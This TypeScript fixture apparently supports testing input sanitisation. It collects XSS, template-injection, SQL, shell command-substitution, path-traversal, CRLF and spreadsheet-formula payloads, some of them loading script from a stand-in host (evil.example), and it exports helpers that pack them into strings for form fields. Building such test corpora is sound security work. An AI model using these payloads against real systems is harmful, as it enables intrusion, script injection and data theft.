// What somebody types who would have a page run it. Whatever runs sets `window.__ran`.

/** What each of them would do. */
const RUN = 'window.__ran=1';

/** Elements that run by themselves, or ask for something. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script/x>${RUN}</script>`,
  `<script\n>${RUN}</script\t>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script>${RUN}//`,
  `<<script>${RUN}//<</script>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${RUN}</script>`,
  `<script type=text/javascript>${RUN}</script>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__ran=1"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>go</button></form>`,
  `<button formaction="javascript:${RUN}">go</button>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<portal src=//evil.example></portal>`,
];

/** Handlers of events, of which many need nobody to do anything. */
const HANDLERS = [
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror='${RUN}'>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x:x onerror=${RUN}//`,
  `<IMG SRC=x ONERROR=${RUN}>`,
  `<img src=x\tonerror\n=\n${RUN}>`,
  `<image src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<a autofocus tabindex=1 onfocus=${RUN}>x</a>`,
  `<details open ontoggle=${RUN}>`,
  `<video src=x onerror=${RUN}></video>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<div onmouseover=${RUN} style=position:fixed;inset:0>x</div>`,
  `<p style=animation:x onanimationstart=${RUN}>x</p>`,
  `<style>@keyframes x{}</style><p style=animation-name:x onanimationend=${RUN}>`,
  `<div oncontentvisibilityautostatechange=${RUN} style=display:block;content-visibility:auto>`,
  `<dialog open oncancel=${RUN}>x</dialog>`,
  `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${RUN}>x</div>`,
];

/** SVG and MathML, which have rules of their own. */
const DRAWN = [
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script>${RUN.replace('=', '&#61;')}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributeName=x>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x">`,
  `<svg><image href=x onerror=${RUN}>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg><title><style><img title="</style><img src=x onerror=${RUN}>"></title></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__ran=1</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<math href="javascript:${RUN}">x</math>`,
];

/** Addresses that run. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  ` javascript:${RUN}`,
  `javascript://evil.example/%0a${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==`,
  `//evil.example/x`,
  `/\\evil.example/x`,
  `https://evil.example@127.0.0.1/`,
  `<a href="javascript:${RUN}">x</a>`,
  `[x](javascript:${RUN})`,
  `![x](x"onerror="${RUN})`,
  `<javascript:${RUN}>`,
];

/** Ways out of where text stands: attributes, elements of raw text, comments, scripts, JSON. */
const BREAKOUTS = [
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `"><img src=x onerror=${RUN}>`,
  `" autofocus onfocus=${RUN} x="`,
  `' autofocus onfocus=${RUN} x='`,
  `" onmouseover="${RUN}`,
  `x onload=${RUN}`,
  `\`><img src=x onerror=${RUN}>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</option></select><img src=x onerror=${RUN}>`,
  `</template><img src=x onerror=${RUN}>`,
  `</main></body><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `<!--><script>${RUN}</script>`,
  `<!--!><img src=x onerror=${RUN}>-->`,
  `<!--[if true]><script>${RUN}</script><![endif]-->`,
  `<!><!--hydrate--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<?xml ?><script>${RUN}</script>`,
  `";${RUN};//`,
  `';${RUN};//`,
  `\\";${RUN};//`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `"}];${RUN};[{"`,
  `\u2028${RUN}\u2029`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
];

/** What templates and their like would work out. */
const TEMPLATES = [
  `\${${RUN}}`,
  `{{${RUN}}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{%${RUN}%}`,
  `<%=${RUN}%>`,
  `#{${RUN}}`,
  `\${{<script>${RUN}</script>}}`,
  `__proto__`,
  `constructor`,
  `{}`,
  `{0}{name:?}`,
];

/** What looks like something else, or turns the text around it. */
const UNICODE = [
  '\u202eevil\u202c \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627',
  '\u2066\u2067turned\u2069',
  `\u202e<script>${RUN}</script>`,
  'zero\u200bwidth\u200cand\u200djoined\ufeff',
  `<\u200bscript>${RUN}</script>`,
  `<scr\u00adipt>${RUN}</script>`,
  'ad\u043cin p\u0430ypal',
  'Z\u0351\u036b\u0343\u036a\u0302a\u0334\u0335\u031e\u0361l\u0488g\u0335o',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  '\ufdfd\u{12031}',
  '\ufff9a\ufffab\ufffb',
  '\u{e0041}\u{e0042}',
  `\u017fcript \u212aelvin <\u017fcript>${RUN}</\u017fcript>`,
];

/** What a spreadsheet would work out, a shell or a database run. */
const FORMULAS = [
  '=1+1',
  `=HYPERLINK("javascript:${RUN}","x")`,
  "=cmd|' /C calc'!A0",
  '+1+cmd|x!A0',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  `'; drop table exception; --`,
  `$(touch /tmp/x) \`id\` ; id | id`,
  '../../../../etc/passwd',
  '%00%0d%0aSet-Cookie:x=1',
];

const KINDS = [ELEMENTS, HANDLERS, DRAWN, ADDRESSES, BREAKOUTS, TEMPLATES, UNICODE, FORMULAS];

/** All of them; of each kind some come early, for fields that take few. */
export const PAYLOADS = Array.from({ length: Math.max(...KINDS.map((kind) => kind.length)) }, (_, at) => KINDS.flatMap((kind) => kind[at] ?? [])).flat();

/** Texts of at most so many characters that have each payload in one of them, but for those that are longer by themselves. */
export function packed(longest: number, between = '\n', payloads = PAYLOADS): string[] {
  const texts: string[] = [];
  for (const payload of payloads.filter((one) => [...one].length <= longest)) {
    const longer = [texts.at(-1), payload].filter((one) => one !== undefined).join(between);
    if (texts.length > 0 && [...longer].length <= longest) texts[texts.length - 1] = longer;
    else texts.push(payload);
  }
  return texts;
}

/** The same for names, which take one line of signs that show. */
export function names(longest: number): string[] {
  return packed(longest, ' ', PAYLOADS.filter((payload) => !/[\p{C}\p{Zl}\p{Zp}]/u.test(payload)).map((payload) => payload.trim()));
}
